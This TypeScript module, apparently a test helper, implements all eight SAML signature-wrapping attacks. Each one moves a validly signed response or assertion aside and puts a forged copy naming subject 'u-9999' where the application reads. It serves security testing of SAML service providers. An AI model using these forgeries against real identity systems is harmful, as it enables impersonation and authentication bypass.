import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

/** The evil copy names this subject; the signed original keeps its own. */
export const EVIL_SUBJECT = 'u-9999';
/** Those wrap a signed response, the others a signed assertion. */
export const WRAPS_RESPONSE = [1, 2];

const ASSERTION = 'urn:oasis:names:tc:SAML:2.0:assertion';
const PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol';
const SIGNATURE = 'http://www.w3.org/2000/09/xmldsig#';

type Wrap = (parts: { response: Element; assertion: Element; document: Document }) => void;

/**
 * The eight ways of signature wrapping as SAML Raider numbers them (Somorovsky et al., "On Breaking SAML", 2012): the signed
 * element stays in the document, valid, where the signature finds it, and another one stands where the reader looks.
 */
const WRAPS: readonly Wrap[] = [
  ({ response }) => {
    const original = unsigned(response);
    signatureOf(response).appendChild(original);
    evil(response, 'response');
  },
  ({ response }) => {
    const original = unsigned(response);
    response.insertBefore(original, signatureOf(response));
    evil(response, 'response');
  },
  ({ response, assertion }) => {
    response.insertBefore(evil(unsigned(assertion), 'assertion'), assertion);
  },
  ({ response, assertion }) => {
    const copy = evil(unsigned(assertion), 'assertion');
    response.replaceChild(copy, assertion);
    copy.appendChild(assertion);
  },
  ({ response, assertion }) => {
    response.appendChild(unsigned(assertion));
    evil(assertion, 'assertion');
  },
  ({ assertion }) => {
    signatureOf(assertion).appendChild(unsigned(assertion));
    evil(assertion, 'assertion');
  },
  ({ response, assertion, document }) => {
    const extensions = document.createElementNS(PROTOCOL, 'samlp:Extensions');
    const copy = unsigned(assertion);
    rename(copy);
    extensions.appendChild(copy);
    response.insertBefore(extensions, response.firstChild);
  },
  ({ assertion, document }) => {
    const object = document.createElementNS(SIGNATURE, 'Object');
    object.appendChild(unsigned(assertion));
    signatureOf(assertion).appendChild(object);
    rename(assertion);
  },
];

export const WRAP_NUMBERS = WRAPS.map((_, i) => i + 1);

/** The signed response rearranged in the way of this number, 1 to 8. */
export function wrapped(xml: string, number: number): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const response = document.documentElement;
  const assertion = child(response, ASSERTION, 'Assertion');
  WRAPS[number - 1]({ response, assertion, document });
  return new XMLSerializer().serializeToString(document);
}

function child(parent: Element, namespace: string, name: string): Element {
  const found = Array.from(parent.childNodes).find(
    (node) => (node as Element).localName === name && (node as Element).namespaceURI === namespace,
  );
  if (found === undefined) throw new Error(`There is no ${name} to wrap.`);
  return found as Element;
}

const signatureOf = (element: Element) => child(element, SIGNATURE, 'Signature');

function unsigned(element: Element): Element {
  const copy = element.cloneNode(true) as Element;
  copy.removeChild(signatureOf(copy));
  return copy;
}

function evil(element: Element, kind: string): Element {
  element.setAttribute('ID', `_evil_${kind}`);
  rename(element);
  return element;
}

/** Of an evil response the name is in its own assertion, not in the original's inside of it. */
function rename(element: Element): void {
  const assertion =
    element.localName === 'Assertion' ? element : child(element, ASSERTION, 'Assertion');
  child(child(assertion, ASSERTION, 'Subject'), ASSERTION, 'NameID').textContent = EVIL_SUBJECT;
}
